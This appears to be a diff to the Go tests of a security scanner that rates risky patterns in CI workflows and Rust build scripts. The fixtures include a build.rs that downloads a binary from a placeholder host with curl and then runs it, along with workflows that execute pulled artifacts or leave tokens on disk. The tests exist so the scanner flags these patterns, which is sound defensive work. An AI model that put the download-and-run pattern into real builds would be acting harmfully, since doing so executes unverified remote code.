@@ -74,6 +74,11 @@ func TestSeverityByContext(t *testing.T) {
 		{"artifact into a folder, base script reads it", ".github/workflows/a.yml", wfRunArtifact("          path: temp/size\n", "node scripts/size-report.js > report.md"), 13, ""},
 		{"artifact into the workspace", ".github/workflows/a.yml", wfRunArtifact("", "node scripts/size-report.js > report.md"), 12, "high gha-artifact-run"},
 		{"artifact's own script", ".github/workflows/a.yml", wfRunArtifact("          path: temp/size\n", "bash temp/size/post.sh"), 13, "high gha-artifact-run"},
+		// A build script that downloads a toolchain and later runs other
+		// tools: only a process given what the download wrote runs it.
+		{"build.rs tool after a download", "build.rs", buildRsAfterDownload("Command::new(\"python3\").arg(\"tools/gen.py\").status().unwrap();"), 15, "medium start-process"},
+		{"build.rs download's own .status()", "build.rs", buildRsAfterDownload("Command::new(\"python3\").arg(\"tools/gen.py\").status().unwrap();"), 7, ""},
+		{"build.rs runs the download", "build.rs", buildRsAfterDownload("Command::new(\"./third_party/tool.bin\").status().unwrap();"), 15, "high download-and-run"},
 		// A token left on disk matters where a pull request's code runs after it.
 		{"persisted token on a schedule", ".github/workflows/a.yml", "on:\n  schedule:\n    - cron: 0 0 * * 1\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: true", 10, "medium gha-persist-credentials"},
 		{"persisted token on pull_request", ".github/workflows/a.yml", "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: true", 8, "high gha-persist-credentials"},
@@ -124,4 +129,11 @@ func TestSeverityByContext(t *testing.T) {
 // and runs cmd.
 func wfRunArtifact(with, cmd string) string {
 	return "on:\n  workflow_run:\n    workflows: [ci]\n    types: [completed]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n" + with + "      - run: " + cmd
+}
+
+// buildRsAfterDownload is a build.rs that downloads a file with a curl
+// builder chain over several lines, unpacks it, and then, ten lines on,
+// runs last.
+func buildRsAfterDownload(last string) string {
+	return "use std::process::Command;\n\nfn main() {\n    assert!(Command::new(\"curl\")\n        .arg(\"-o\").arg(\"./third_party/tool.bin\")\n        .arg(\"https://x.invalid/tool.bin\")\n        .status()\n        .unwrap()\n        .success());\n    Command::new(\"unzip\").arg(\"./third_party/tool.zip\").status().unwrap();\n    let a = 1;\n    let b = 2;\n    let c = a + b;\n    println!(\"{}\", c);\n    " + last + "\n}"
 }
